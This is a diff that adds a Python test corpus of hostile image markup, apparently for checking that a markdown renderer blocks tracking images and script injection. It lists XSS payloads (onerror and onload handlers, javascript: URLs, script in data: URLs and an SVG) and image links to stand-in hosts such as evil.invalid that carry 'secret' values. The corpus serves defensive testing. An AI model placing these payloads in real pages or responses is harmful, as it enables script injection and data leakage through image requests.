@@ -1,0 +1,58 @@
+"""Pictures that would tell their host who reads, and pictures that are none."""
+
+from tests.e2e.corpus.markup import AT, RUN
+
+_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQ9MSIvPg=="
+_DOT = "R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="
+_PADDED = "A" * 20_000
+
+PICTURES = {
+    "plain": f"![x]({AT}/i.png?q=secret)",
+    "plain http": "![x](http://evil.invalid/i.png)",
+    "by reference": f"![x][r]\n\n[r]: {AT}/r.png",
+    "by its own name": f"![x]\n\n[x]: {AT}/x.png",
+    "by a reference that comes first": f"[r]: {AT}/r.png\n\n![x][r]",
+    "by a reference in a quotation": f"> [r]: {AT}/r.png\n\n![x][r]",
+    "by a reference in capitals": f"![x][ẞ]\n\n[ss]: {AT}/s.png",
+    "with a title": f'![x]({AT}/i.png "secret")',
+    "with a handler for a title": f'![x]({AT}/i.png "\\" onerror=\\"{RUN}")',
+    "with a handler for words": f'![" onerror="{RUN}]({AT}/i.png)',
+    "with markup for words": f"![<img src=x onerror={RUN}>]({AT}/i.png)",
+    "with a picture for words": f"![![x]({AT}/a.png)]({AT}/b.png)",
+    "with a formula for words": f"![$\\href{{javascript:{RUN}}}{{x}}$]({AT}/i.png)",
+    "with turned words": f"![\u202egnp.x]({AT}/i.png)",
+    "with long words": f"![{'x' * 20_000}]({AT}/i.png)",
+    "without words": f"![]({AT}/i.png)",
+    "in brackets": f"![x](<{AT}/a b.png>)",
+    "without a scheme": "![x](//evil.invalid/i.png)",
+    "with backslashes": "![x](\\\\evil.invalid\\i.png)",
+    "of this site": "![x](/api/me) ![y](/logout)",
+    "of nowhere": "![x](x.png)",
+    "in mixed case": "![x](HTTPS://EVIL.INVALID/i.png)",
+    "with a name and a password": "![x](https://user:pass@evil.invalid/i.png)",
+    "with a host that is none": "![x](https://) ![y](https://[/x) ![z](https://a:b:c/x)",
+    "with a port that is none": "![x](https://evil.invalid:99999/x.png)",
+    "in a cell": f"| a |\n|---|\n| ![x]({AT}/c.png) |",
+    "in a heading": f"# ![x]({AT}/h.png)",
+    "in a quotation": f"> ![x]({AT}/q.png)",
+    "in an item": f"- ![x]({AT}/l.png)",
+    "in a link": f"[![x]({AT}/i.png)]({AT}/l)",
+    "a hundred": f"![x]({AT}/i.png)\n\n" * 100,
+    "of data": f"![x](data:image/gif;base64,{_DOT})",
+    "of data that is no picture": "![x](data:image/png;base64,AAAA)",
+    "of data in capitals": f"![x](DATA:IMAGE/GIF;BASE64,{_DOT})",
+    "of much data": f"![x](data:image/png;base64,{_PADDED})",
+    "of data of a page": "![x](data:text/html,<script>pwned=1</script>)",
+    "of data of an svg": f"![x](data:image/svg+xml;base64,{_SVG})",
+    "of data of two types": f"![x](data:image/png;image/svg+xml;base64,{_SVG})",
+    "of data with a comma": f"![x](data:image/png;base64,{_SVG},image/svg+xml)",
+    "of a script": f"![x](javascript:{RUN})",
+    "of a blob": "![x](blob:https://evil.invalid/x)",
+    "with a set": f"<img src=x srcset='{AT}/a.png 1x, {AT}/b.png 2x'>",
+    "with a lazy address": f"<img loading=lazy src={AT}/i.png><img data-src={AT}/j.png>",
+    "of the old kind": f"<image src={AT}/i.png><input type=image src={AT}/j.png>",
+    "with another source": f'<span class="picture-elsewhere" data-source="{AT}/i.png" data-alt="x">x</span>',
+    "with the page's class": f'<a class="picture" href="{AT}/i.png">x</a>',
+    "followed by a size": f"![x]({AT}/i.png =9999x9999)",
+    "followed by attributes": f"![x]({AT}/i.png){{onload={RUN} .sidebar #main}}",
+}
